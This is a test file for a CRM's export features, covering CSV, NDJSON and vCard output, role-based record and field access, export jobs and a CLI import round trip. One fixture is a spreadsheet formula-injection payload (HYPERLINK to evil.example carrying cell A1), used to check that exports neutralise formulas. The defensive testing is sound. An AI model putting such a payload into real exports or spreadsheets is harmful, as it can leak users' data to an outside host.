// Exports over HTTP and from the CLI: CSV (filters honoured, spreadsheet formulas neutralised),
// NDJSON that is exactly the API's representation, vCard, record access and hidden fields (an
// export holds what the caller may read *and* export, never a hidden value), the job flow with
// progress and download, orders as one row per line item, and the CLI with a round trip through
// `rapport import`.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { cliOk, createToken, makeDataDir, removeDir, runCli, startServer, waitFor } from './lib/server.mjs';
import { expectStatus, expectProblem } from './lib/expect.mjs';

const PASSWORD = 'a long enough passphrase\n';
const SALARY = 98765;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let dir;
let server;
const tokens = {};
const ids = {};       // user name -> id
const people = {};    // customer key -> created customer

/** RFC 4180 parser: returns an array of rows (arrays of strings). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
    else if (c === '\n') { row.push(field); rows.push(row); row = []; field = ''; }
    else field += c;
  }
  if (field !== '' || row.length > 0) { row.push(field); rows.push(row); }
  return rows;
}

/** CSV text -> array of {header: value} records. */
function records(text) {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

const header = (text) => parseCsv(text)[0];
const ndjson = (text) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l));
const as = (who, method, p, options = {}) => server.api(method, p, { ...options, token: tokens[who] });
const query = (params) => '/exports?' + new URLSearchParams(params).toString();

before(async () => {
  dir = makeDataDir();
  // sam: built-in sales (export: own); tina: a custom role exporting the team's customers with
  // sensitive fields hidden; vic: viewer (no export); mia: marketing (export all, sensitive hidden).
  for (const [name, role] of [['sam', 'sales'], ['mate', 'sales'], ['other', 'sales'], ['tina', 'viewer'],
    ['vic', 'viewer'], ['mia', 'marketing']]) {
    cliOk(['user', 'add', '--data-dir', dir, '--email', `${name}@staff.example`, '--name', name, '--role', role,
      '--password-stdin'], PASSWORD);
    tokens[name] = cliOk(['token', 'create', '--data-dir', dir, '--name', name, '--user', `${name}@staff.example`]);
  }
  server = await startServer({ dataDir: dir, token: createToken(dir, 'admin') });
  for (const u of expectStatus(await server.api('GET', '/users'), 200).data) ids[u.name] = u.id;
  const north = expectStatus(await server.api('POST', '/teams', { body: { name: 'North' } }), 201);
  const south = expectStatus(await server.api('POST', '/teams', { body: { name: 'South' } }), 201);
  for (const name of ['sam', 'mate', 'tina']) {
    expectStatus(await server.api('PATCH', `/users/${ids[name]}`, { body: { teams: [north.id] } }), 200);
  }
  expectStatus(await server.api('PATCH', `/users/${ids.other}`, { body: { teams: [south.id] } }), 200);
  expectStatus(await server.api('POST', '/roles', { body: {
    name: 'team_exporter', description: 'Exports the team\'s customers',
    grants: { customers: { read: 'team', export: 'team' } },
    fields: { customers: { sensitive: 'hidden' } } } }), 201);
  expectStatus(await server.api('PATCH', `/users/${ids.tina}`, { body: { roles: ['team_exporter'] } }), 200);

  expectStatus(await server.api('POST', '/custom-fields', { body: { object_type: 'customer', key: 'salary', label: 'Salary', type: 'number', sensitive: true } }), 201);
  expectStatus(await server.api('POST', '/custom-fields', { body: { object_type: 'customer', key: 'tier', label: 'Tier', type: 'text' } }), 201);
  const company = expectStatus(await server.api('POST', '/companies', { body: { name: 'Acme Export GmbH', domain: 'acme-export.example' } }), 201);
  const make = async (key, body) => {
    people[key] = expectStatus(await server.api('POST', '/customers', { body }), 201);
  };
  await make('alma', { first_name: 'Alma', last_name: 'Own', owner_id: ids.sam, tags: ['vip', 'beta'], lifecycle_stage: 'customer',
    emails: [{ address: 'alma@cust.example' }, { address: 'alma.private@cust.example' }], phones: [{ number: '+49 30 1234567' }],
    birthday: '1980-01-02', company_id: company.id, custom_fields: { salary: SALARY, tier: 'gold' },
    addresses: [{ line1: 'Hauptstraße 1', city: 'Berlin', postal_code: '10115', country: 'DE' }] });
  await make('bert', { first_name: 'Bert', last_name: 'Mate', owner_id: ids.mate, tags: ['vip'], custom_fields: { salary: SALARY + 1 } });
  await make('cleo', { first_name: 'Cleo', last_name: 'Other', owner_id: ids.other, tags: ['vip'], custom_fields: { salary: SALARY + 2 } });
  await make('formula', { first_name: FORMULA, last_name: 'Injected', owner_id: ids.sam });
  await make('plain', { first_name: 'Dora', last_name: 'Nobody', tags: ['regular'] });
});
after(async () => {
  if (server) await server.stopClean();
  removeDir(dir);
});

test('CSV of customers honours the filter and uses the import\'s column names', async () => {
  const filter = JSON.stringify({ field: 'tags', op: 'eq', value: 'vip' });
  const res = await server.api('GET', query({ object: 'customers', format: 'csv', filter }));
  expectStatus(res, 200);
  assert.match(res.headers['content-type'], /^text\/csv; charset=utf-8/);
  assert.match(res.headers['content-disposition'], /^attachment; filename="customers-exp_[0-9A-Z]+\.csv"$/);
  assert.match(res.headers['content-location'], /^\/api\/v1\/exports\/exp_/);
  const cols = header(res.text);
  for (const c of ['rapport_id', 'external_id', 'first_name', 'last_name', 'display_name', 'email', 'emails', 'phone',
    'phones', 'lifecycle_stage', 'owner_id', 'company', 'company_id', 'tags', 'birthday', 'language', 'time_zone',
    'address_line_1', 'city', 'postal_code', 'country', 'custom.salary', 'custom.tier', 'order_count', 'total_spent',
    'last_purchase_at', 'created_at', 'updated_at']) {
    assert.ok(cols.includes(c), `column ${c} in ${cols}`);
  }
  const rows = records(res.text);
  assert.deepEqual(rows.map((r) => r.first_name).sort(), ['Alma', 'Bert', 'Cleo']);
  const alma = rows.find((r) => r.first_name === 'Alma');
  assert.equal(alma.rapport_id, people.alma.id);
  assert.equal(alma.email, 'alma@cust.example');
  assert.equal(alma.emails, 'alma@cust.example; alma.private@cust.example');
  assert.equal(alma.phone, "'+49301234567", 'a leading + is neutralised like any formula character');
  assert.equal(alma.tags, 'vip; beta');
  assert.equal(alma.company, 'Acme Export GmbH');
  assert.equal(alma.birthday, '1980-01-02');
  assert.equal(alma.address_line_1, 'Hauptstraße 1');
  assert.equal(alma.city, 'Berlin');
  assert.equal(alma['custom.salary'], String(SALARY));
  assert.equal(alma['custom.tier'], 'gold');
  assert.equal(alma.order_count, '0');
  assert.equal(alma.total_spent, '0.00');
});

test('formulas are neutralised by default and kept when asked', async () => {
  const neutralised = await server.api('GET', query({ object: 'customers' }));
  expectStatus(neutralised, 200);
  const cell = records(neutralised.text).find((r) => r.last_name === 'Injected').first_name;
  assert.equal(cell, `'${FORMULA}`);
  const raw = await server.api('GET', query({ object: 'customers', neutralise_formulas: 'false' }));
  expectStatus(raw, 200);
  assert.equal(records(raw.text).find((r) => r.last_name === 'Injected').first_name, FORMULA);
  // The job carries the choice too.
  const job = expectStatus(await server.api('POST', '/exports', { body: { object: 'customers', neutralise_formulas: false } }), 202);
  assert.equal(job.options.neutralise_formulas, false);
});

test('NDJSON is exactly the API representation, for every object type', async () => {
  const res = await server.api('GET', query({ object: 'customers', format: 'ndjson' }));
  expectStatus(res, 200);
  assert.match(res.headers['content-type'], /^application\/x-ndjson/);
  const lines = ndjson(res.text);
  assert.equal(lines.length, Object.keys(people).length);
  for (const line of lines) {
    assert.deepEqual(line, expectStatus(await server.api('GET', `/customers/${line.id}`), 200));
  }
  const companies = ndjson((await server.api('GET', query({ object: 'companies', format: 'ndjson' }))).text);
  assert.equal(companies.length, 1);
  assert.deepEqual(companies[0], expectStatus(await server.api('GET', `/companies/${companies[0].id}`), 200));
  const list = expectStatus(await server.api('GET', '/companies'), 200).data;
  assert.deepEqual(companies, list);
});

test('vCard export has one card per customer and parses', async () => {
  const res = await server.api('GET', query({ object: 'customers', format: 'vcard' }));
  expectStatus(res, 200);
  assert.match(res.headers['content-type'], /^text\/vcard/);
  assert.match(res.headers['content-disposition'], /\.vcf"$/);
  const text = res.text;
  assert.equal((text.match(/^BEGIN:VCARD\r$/gm) ?? []).length, Object.keys(people).length);
  assert.equal((text.match(/^END:VCARD\r$/gm) ?? []).length, Object.keys(people).length);
  assert.equal((text.match(/^VERSION:4\.0\r$/gm) ?? []).length, Object.keys(people).length);
  assert.ok(text.split('\r\n').every((l) => Buffer.byteLength(l) <= 75), 'lines are folded at 75 octets');
  assert.match(text, /\r\nFN:Alma Own\r\n/);
  assert.match(text, /\r\nORG:Acme Export GmbH\r\n/);
  assert.match(text, /EMAIL[^:]*:alma@cust\.example\r\n/);
  expectProblem(await server.api('GET', query({ object: 'orders', format: 'vcard' })), 422, { field: 'format' });
});

test('record access: an export holds what the caller may read and export, never a hidden value', async () => {
  // tina: team read and export, sensitive fields hidden.
  const csv = await as('tina', 'GET', query({ object: 'customers' }));
  expectStatus(csv, 200);
  const rows = records(csv.text);
  assert.deepEqual(rows.map((r) => r.first_name).sort(), [`'${FORMULA}`, 'Alma', 'Bert'].sort());
  assert.ok(!header(csv.text).includes('custom.salary'), 'a hidden custom field has no column');
  assert.ok(!header(csv.text).includes('birthday'), 'a hidden field has no column');
  assert.ok(header(csv.text).includes('custom.tier'));
  const json = await as('tina', 'GET', query({ object: 'customers', format: 'ndjson' }));
  const vcard = await as('tina', 'GET', query({ object: 'customers', format: 'vcard' }));
  for (const text of [csv.text, json.text, vcard.text]) {
    for (const secret of [SALARY, SALARY + 1, SALARY + 2]) assert.ok(!text.includes(String(secret)), `leaks ${secret}`);
    assert.ok(!text.includes('1980-01-02') && !text.includes('19800102'), 'leaks the birthday');
    assert.ok(!text.includes('salary'), 'names the hidden field');
  }
  const served = ndjson(json.text).find((c) => c.first_name === 'Alma');
  const viaApi = expectStatus(await as('tina', 'GET', `/customers/${people.alma.id}`), 200);
  assert.deepEqual(served, viaApi, 'the redacted export is the redacted API record');

  // sam: built-in sales reads the team's customers but exports only their own.
  const own = records((await as('sam', 'GET', query({ object: 'customers' }))).text);
  assert.deepEqual(own.map((r) => r.last_name).sort(), ['Injected', 'Own']);
  // mia: marketing exports everyone, without the sensitive fields.
  const all = await as('mia', 'GET', query({ object: 'customers', format: 'ndjson' }));
  assert.equal(ndjson(all.text).length, Object.keys(people).length);
  assert.ok(!all.text.includes(String(SALARY)));

  // vic: a viewer may read but not export.
  expectProblem(await as('vic', 'GET', query({ object: 'customers' })), 403);
  expectProblem(await as('vic', 'POST', '/exports', { body: { object: 'customers' } }), 403);
  expectProblem(await as('vic', 'POST', '/exports', { body: { object: 'interactions' } }), 403);
  // Products are everyone's to export.
  expectStatus(await as('vic', 'GET', query({ object: 'products' })), 200);
});

test('bad input names the field at fault', async () => {
  expectProblem(await server.api('GET', query({ object: 'nope' })), 422, { field: 'object' });
  expectProblem(await server.api('GET', query({ object: 'customers', format: 'xml' })), 422, { field: 'format' });
  expectProblem(await server.api('GET', query({ object: 'customers', filter: '{not json' })), 422, { field: 'filter' });
  expectProblem(await server.api('GET', query({ object: 'customers', filter: JSON.stringify({ field: 'shoe_size', op: 'eq', value: 1 }) })), 422, { fieldPrefix: 'filter' });
  expectProblem(await server.api('GET', query({ object: 'customers', neutralise_formulas: 'maybe' })), 422, { field: 'neutralise_formulas' });
  expectProblem(await server.api('POST', '/exports', { body: { object: 'companies', filter: { field: 'tags', op: 'eq', value: 'x' } } }), 422, { field: 'filter' });
  expectProblem(await server.api('POST', '/exports', { body: { object: 'orders', customer_id: 'cus_nobody' } }), 422, { field: 'customer_id' });
  expectProblem(await server.api('POST', '/exports', { body: { object: 'customers', colour: 'red' } }), 422, { field: 'colour' });
  // sam may not read Cleo: asking for her orders is answered as for a customer that does not exist.
  const hidden = expectProblem(await as('sam', 'POST', '/exports', { body: { object: 'orders', customer_id: people.cleo.id } }), 422, { field: 'customer_id' });
  const missing = expectProblem(await as('sam', 'POST', '/exports', { body: { object: 'orders', customer_id: 'cus_nobody' } }), 422, { field: 'customer_id' });
  assert.equal(hidden.errors[0].message.replace(people.cleo.id, 'ID'), missing.errors[0].message.replace('cus_nobody', 'ID'));
  expectProblem(await as('tina', 'POST', '/exports', { body: { object: 'customers', filter: { field: 'custom_fields.salary', op: 'gt', value: 1 } } }), 422, { fieldPrefix: 'filter' });
  expectProblem(await server.api('GET', '/exports/exp_nothing'), 404);
});

test('orders export one row per line item with exact totals; NDJSON is the order as served', async () => {
  expectStatus(await server.api('POST', '/products', { body: { sku: 'LP-1', name: 'Ella Sings', category: 'jazz', price: '12.99', currency: 'USD' } }), 201);
  expectStatus(await server.api('POST', '/products', { body: { sku: 'LP-2', name: 'Blue Hour', category: 'blues', price: '9.50', currency: 'USD' } }), 201);
  const buyer = people.alma;
  const first = expectStatus(await server.api('POST', `/customers/${buyer.id}/orders`, { body: {
    external_id: 'W-1001', currency: 'USD', channel: 'web', lines: [{ sku: 'LP-1', quantity: 2, discount: '1.00' }, { sku: 'LP-2' }] } }), 201);
  const second = expectStatus(await server.api('POST', `/customers/${buyer.id}/orders`, { body: {
    currency: 'USD', channel: 'store', lines: [{ description: 'Gift wrap, "deluxe"', quantity: 3, unit_price: '0.10' }] } }), 201);
  expectStatus(await server.api('POST', `/customers/${people.cleo.id}/orders`, { body: {
    external_id: 'W-2000', currency: 'USD', channel: 'web', lines: [{ sku: 'LP-2' }] } }), 201);
  assert.equal(first.total, '34.48');

  const res = await server.api('GET', query({ object: 'orders', customer_id: buyer.id }));
  expectStatus(res, 200);
  const rows = records(res.text);
  assert.equal(rows.length, 3, 'one row per line item');
  assert.deepEqual(rows.map((r) => [r.order_id, r.sku, r.description, r.quantity, r.unit_price, r.discount, r.line_total, r.order_total]), [
    ['W-1001', 'LP-1', 'Ella Sings', '2', '12.99', '1.00', '24.98', '34.48'],
    ['W-1001', 'LP-2', 'Blue Hour', '1', '9.50', '0.00', '9.50', '34.48'],
    [second.id, '', 'Gift wrap, "deluxe"', '3', '0.10', '0.00', '0.30', '0.30'],
  ]);
  for (const r of rows) {
    assert.equal(r.customer_id, buyer.id);
    assert.equal(r.customer_email, 'alma@cust.example');
    assert.equal(r.currency, 'USD');
  }
  const cents = (s) => Math.round(Number(s) * 100);
  const sum = rows.filter((r) => r.order_id === 'W-1001').reduce((t, r) => t + cents(r.line_total), 0);
  assert.equal(sum, cents('34.48'));

  const all = ndjson((await server.api('GET', query({ object: 'orders', format: 'ndjson' }))).text);
  assert.equal(all.length, 3);
  for (const order of all) assert.deepEqual(order, expectStatus(await server.api('GET', `/orders/${order.id}`), 200));
  // Orders follow their customer: sam exports only his own customers' orders.
  const sams = records((await as('sam', 'GET', query({ object: 'orders' }))).text);
  assert.deepEqual([...new Set(sams.map((r) => r.order_id))].sort(), [second.id, 'W-1001'].sort());

  // Interactions as served by the timeline (orders put entries there).
  const timeline = expectStatus(await server.api('GET', `/customers/${buyer.id}/timeline`), 200).data;
  const exported = ndjson((await server.api('GET', query({ object: 'interactions', format: 'ndjson', customer_id: buyer.id }))).text);
  assert.equal(exported.length, timeline.length);
  const byId = Object.fromEntries(timeline.map((t) => [t.id, t]));
  for (const entry of exported) assert.deepEqual(entry, byId[entry.id]);
});

test('the job flow: 202, progress to 100 %, the file (0600), listed for its owner only', async () => {
  const started = await server.api('POST', '/exports', { body: { object: 'customers', format: 'csv' } });
  const job = expectStatus(started, 202);
  assert.equal(started.headers.location, `/api/v1/exports/${job.id}`);
  assert.equal(job.kind, 'export');
  assert.equal(job.object_type, 'customers');
  assert.ok(['queued', 'running', 'completed'].includes(job.status));
  const early = await server.api('GET', `/exports/${job.id}/file`);
  if (early.status !== 200) expectProblem(early, 409);

  const done = await waitFor(async () => {
    const current = expectStatus(await server.api('GET', `/exports/${job.id}`), 200);
    assert.ok(Number.isInteger(current.progress) && current.progress >= 0 && current.progress <= 100);
    return current.status === 'completed' ? current : null;
  }, { message: 'export job completes' });
  assert.equal(done.progress, 100);
  assert.equal(done.rows, Object.keys(people).length);
  assert.equal(done.total_bytes, Object.keys(people).length);
  assert.ok(done.finished_at);

  const file = await server.api('GET', `/exports/${job.id}/file`);
  expectStatus(file, 200);
  assert.match(file.headers['content-type'], /^text\/csv/);
  assert.equal(file.headers['content-disposition'], `attachment; filename="customers-${job.id}.csv"`);
  assert.equal(records(file.text).length, Object.keys(people).length);
  const stat = fs.statSync(path.join(dir, 'transfers', `${job.id}.csv`));
  assert.equal(stat.mode & 0o777, 0o600);

  const mine = expectStatus(await server.api('GET', '/exports'), 200).data;
  assert.ok(mine.some((j) => j.id === job.id));
  expectProblem(await as('sam', 'GET', `/exports/${job.id}`), 404);
  expectProblem(await as('sam', 'GET', `/exports/${job.id}/file`), 404);
  const samsJob = expectStatus(await as('sam', 'POST', '/exports', { body: { object: 'customers', format: 'ndjson' } }), 202);
  const samsDone = await waitFor(async () => {
    const current = expectStatus(await as('sam', 'GET', `/exports/${samsJob.id}`), 200);
    return current.status === 'completed' ? current : null;
  });
  assert.equal(samsDone.rows, 2);
  const samsList = expectStatus(await as('sam', 'GET', '/exports'), 200).data;
  assert.equal(samsList[0].id, samsJob.id, 'newest first');
  assert.ok(samsList.every((j) => j.user_id === ids.sam), 'sam sees only his own exports (inline ones included)');
  assert.ok(!samsList.some((j) => j.id === job.id));
  const samsFile = await as('sam', 'GET', `/exports/${samsJob.id}/file`);
  assert.match(samsFile.headers['content-type'], /^application\/x-ndjson/);
  assert.equal(ndjson(samsFile.text).length, 2);
  // An inline export is recorded but its file is not kept.
  const inline = await server.api('GET', query({ object: 'products' }));
  const inlineId = inline.headers['content-location'].split('/').pop();
  expectProblem(await server.api('GET', `/exports/${inlineId}/file`), 404);
});

test('large sets: 413 for an inline export, a job with progress in between', async () => {
  const batch = 1000;
  const target = 10_001 - Object.keys(people).length;
  for (let start = 0; start < target; start += batch) {
    const bulk = [];
    for (let i = start; i < Math.min(target, start + batch); i++) bulk.push({ first_name: `Bulk${i}`, tags: ['bulk'] });
    const result = expectStatus(await server.api('POST', '/customers/batch', { body: { records: bulk }, timeoutMs: 120_000 }), 200);
    assert.ok(result.results.every((r) => r.status !== 'error'));
  }
  const refused = await server.api('GET', query({ object: 'customers' }));
  const problem = expectProblem(refused, 413);
  assert.match(problem.detail, /POST \/api\/v1\/exports/);
  // A filter that narrows the set is answered at once.
  const narrow = await server.api('GET', query({ object: 'customers', filter: JSON.stringify({ field: 'tags', op: 'eq', value: 'vip' }) }));
  expectStatus(narrow, 200);
  assert.equal(records(narrow.text).length, 3);

  const job = expectStatus(await server.api('POST', '/exports', { body: { object: 'customers', format: 'ndjson' } }), 202);
  const seen = new Set();
  const done = await waitFor(async () => {
    const current = expectStatus(await server.api('GET', `/exports/${job.id}`), 200);
    seen.add(current.progress);
    return current.status === 'completed' ? current : null;
  }, { timeoutMs: 120_000, intervalMs: 20, message: 'large export completes' });
  assert.equal(done.rows, 10_001);
  assert.equal(done.progress, 100);
  const file = await server.api('GET', `/exports/${job.id}/file`, { timeoutMs: 120_000 });
  assert.equal(file.text.split('\n').filter(Boolean).length, 10_001);
  // Not asserted: that a poll landed between pages (timing); recorded for the log.
  process.stderr.write(`progress values seen: ${[...seen].join(' ')}\n`);
});

test('CLI: rapport export writes a 0600 file with a summary, and re-imports with rapport import', () => {
  const source = makeDataDir('rapport-export-cli-');
  const copy = makeDataDir('rapport-export-copy-');
  try {
    cliOk(['demo', '--data-dir', source, '--customers', '25']);
    const out = path.join(source, 'customers.csv');
    const run = runCli(['export', 'customers', '--data-dir', source, '--format', 'csv', '--output', out]);
    assert.equal(run.status, 0, run.stderr);
    assert.match(run.stderr, /Exported 25 customers as csv to .*customers\.csv in [\d.]+s \(job exp_/);
    assert.equal(run.stdout, '', 'nothing on stdout when writing a file');
    assert.equal(fs.statSync(out).mode & 0o777, 0o600);
    const exported = records(fs.readFileSync(out, 'utf8'));
    assert.equal(exported.length, 25);

    const stdout = runCli(['export', 'orders', '--data-dir', source, '--format', 'ndjson']);
    assert.equal(stdout.status, 0, stdout.stderr);
    assert.ok(ndjson(stdout.stdout).every((o) => o.id.startsWith('ord_') && Array.isArray(o.lines)));
    const bad = runCli(['export', 'customers', '--data-dir', source, '--filter', '{"field":"nope","op":"eq","value":1}']);
    assert.equal(bad.status, 1);
    assert.match(bad.stderr, /filter/);

    // Round trip: companies, then customers (linked by company name), into an empty directory.
    // Without neutralisation, so phone numbers keep their leading +.
    const companies = path.join(source, 'companies.csv');
    const plain = path.join(source, 'customers-plain.csv');
    cliOk(['export', 'companies', '--data-dir', source, '--output', companies, '--no-neutralise']);
    cliOk(['export', 'customers', '--data-dir', source, '--output', plain, '--no-neutralise']);
    for (const [object, file] of [['companies', companies], ['customers', plain]]) {
      const imported = runCli(['import', object, file, '--data-dir', copy], { timeoutMs: 60_000 });
      assert.equal(imported.status, 0, `import ${object}: ${imported.stderr}`);
    }
    const again = path.join(copy, 'again.csv');
    cliOk(['export', 'customers', '--data-dir', copy, '--output', again, '--no-neutralise']);
    const before = Object.fromEntries(records(fs.readFileSync(plain, 'utf8')).map((r) => [r.external_id, r]));
    const after = records(fs.readFileSync(again, 'utf8'));
    assert.equal(after.length, 25);
    // What the importer maps back: everything but ids, timestamps, order figures and the
    // secondary e-mail addresses and phone numbers (one column each).
    const compared = ['external_id', 'first_name', 'last_name', 'display_name', 'email', 'phone', 'lifecycle_stage',
      'relationship_type', 'preferred_channel', 'company', 'tags', 'birthday', 'language', 'time_zone',
      'address_line_1', 'address_line_2', 'city', 'region', 'postal_code', 'country'];
    for (const row of after) {
      const original = before[row.external_id];
      assert.ok(original, `customer ${row.external_id} came from the export`);
      for (const column of compared) assert.equal(row[column], original[column], `${row.external_id}.${column}`);
    }
  } finally {
    removeDir(source);
    removeDir(copy);
  }
});

test('customer health traits are export columns: health_score, churn_risk, nps_last, bad_experiences_open', async () => {
  const hana = expectStatus(await server.api('POST', '/customers', { body: { first_name: 'Hana', last_name: 'Health', tags: ['health-export'] } }), 201);
  people.hana = hana;
  // A detractor's answer: NPS 3, which records a bad experience.
  const nps = expectStatus(await server.api('POST', '/surveys', { body: { name: 'Export NPS', kind: 'nps' } }), 201);
  const invitation = expectStatus(await server.api('POST', `/surveys/${nps.id}/invitations`, { body: { customer_id: hana.id } }), 201);
  for (const body of [{ question: 'score', answer: 3 }, { question: 'why', answer: 'Slow.' }]) {
    const res = await fetch(server.baseUrl + new URL(invitation.link).pathname, {
      method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' }, body: JSON.stringify(body) });
    assert.equal(res.status, 200, await res.text());
  }
  const health = await waitFor(async () => {
    const h = expectStatus(await server.api('GET', `/customers/${hana.id}/health`), 200);
    return h.nps_last === 3 && h.bad_experiences.length === 1 && h;
  }, { message: 'the detractor in Hana\'s health' });

  const filter = JSON.stringify({ field: 'tags', op: 'eq', value: 'health-export' });
  const csv = await server.api('GET', query({ object: 'customers', format: 'csv', filter }));
  expectStatus(csv, 200);
  for (const c of ['health_score', 'churn_risk', 'nps_last', 'bad_experiences_open']) {
    assert.ok(header(csv.text).includes(c), `column ${c}`);
  }
  const [row] = records(csv.text);
  assert.equal(row.rapport_id, hana.id);
  assert.equal(row.health_score, String(health.score));
  assert.equal(row.churn_risk, health.risk);
  assert.equal(row.nps_last, '3');
  assert.equal(row.bad_experiences_open, '1');
  assert.ok(Number(row.health_score) < 90, `a detractor lowers the score: ${row.health_score}`);
});
